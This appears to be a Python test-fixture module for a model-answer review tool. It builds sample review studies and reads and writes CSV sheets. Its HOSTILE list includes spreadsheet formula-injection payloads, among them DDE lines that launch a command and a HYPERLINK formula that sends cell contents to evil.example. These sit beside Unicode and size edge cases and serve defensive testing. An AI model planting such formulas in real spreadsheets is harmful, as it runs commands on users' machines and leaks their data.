"""Small studies, and sheets of them that a person has filled in."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

from tunecheck.core import ReviewStudy, SheetAnswer
from tunecheck.study import AXES, Slot, sheet

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1-1",
    "-2+3",
    "\t=1+1",
    "   =1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''",
    "a;=1+1",
    'a";=cmd|x!A1;"',
    "- one\n- two\n-2+3",
    "a\x00b\x07c\x1b[31m",
    "\ud800 alone \udfff",
    "abc\u202edef\u2066ghi\u2069",
    "\u05e9\u05dc\u05d5\u05dd \u200fworld",
    "\ufffe\uffff",
    "x" * 40_000,
    "=\n" * 20_000,
    "🙂" * 20_000,
    "line one\nline two\r\nline three\rline four",
    "]]>",
    "<![CDATA[ <!DOCTYPE x [<!ENTITY a 'b'>]> ]]>",
    "<!DOCTYPE html><p>&amp;&#0;</p>",
    "<r><t>raw</t></r>",
    "<r>" + "x" * 32_759 + "</r>",
    "_x0041_ and _x005F_x0041_ and _x0000_ and x005F_",
    "x005Fx005F__",
    "",
    " ",
    "\n",
    "42",
    "1.50",
    "3/4",
    "00123",
    "1e5",
    "TRUE",
    "#N/A",
    "null",
    '"quoted, ""twice"""',
    "a,b;c\td",
    "\ufeffmark",
    "e\u0301 é",
)


def study(generated: Sequence[str] = ("one", "two", "three"), *, instructions: str = "") -> ReviewStudy:
    """A review of these answers, one to a prompt."""
    answers = tuple(
        SheetAnswer(
            item=f"item-{number}",
            side="tuned" if number % 2 else "base",
            prompt=f"Prompt {number}",
            reference=f"Reference {number}",
            generated=text,
            unit=f"item-{number}",
        )
        for number, text in enumerate(generated)
    )
    return ReviewStudy(
        number=1,
        title="Review",
        created="2026-01-02T03:04:05+00:00",
        secret="ab" * 32,
        seed=1,
        axes=AXES,
        answers=answers,
        instructions=instructions,
    )


def slots(of: ReviewStudy) -> tuple[Slot, ...]:
    """The sheet of the first rater."""
    return sheet(of, 0)


def csv_rows(path: Path) -> list[list[str]]:
    """The cells of a CSV file."""
    csv.field_size_limit(2**31 - 1)
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def write_csv(path: Path, rows: Sequence[Sequence[str]], *, delimiter: str = ",", encoding: str = "utf-8-sig") -> None:
    """Cells as a spreadsheet program saves them."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(rows)
    path.write_bytes(text.getvalue().encode(encoding))
